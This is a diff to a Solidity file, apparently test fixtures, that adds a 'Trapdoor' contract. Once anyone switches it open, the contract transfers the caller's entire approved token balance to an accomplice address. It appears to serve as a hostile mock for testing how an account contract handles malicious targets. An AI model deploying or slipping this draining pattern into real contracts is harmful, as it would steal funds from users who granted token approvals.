@@ -30,6 +30,24 @@ contract Stranger {
     receive() external payable {}
 }
 
+interface IToken {
+    function balanceOf(address holder) external view returns (uint256);
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+}
+
+/// Harmless while it is shut; once open, whoever approved it and calls it loses its tokens.
+contract Trapdoor {
+    bool private isOpen;
+
+    function open() external {
+        isOpen = true;
+    }
+
+    function step(IToken token, address accomplice) external {
+        if (isOpen) token.transferFrom(msg.sender, accomplice, token.balanceOf(msg.sender));
+    }
+}
+
 /// Takes any operation, pays what it owes and executes what it is told.
 contract HonestAccount {
     Stranger internal immutable stranger;
